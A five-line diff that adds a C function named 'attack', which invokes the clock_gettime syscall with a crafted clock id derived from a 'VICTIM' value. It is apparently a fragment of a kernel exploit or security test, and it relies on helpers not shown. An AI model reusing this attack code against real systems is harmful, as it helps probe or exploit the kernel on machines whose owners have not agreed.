@@ -1,0 +1,5 @@
+long attack(void)
+{
+    struct timespec now;
+    return call(SYS_clock_gettime, (~VICTIM << 3) | 2, &now);
+}
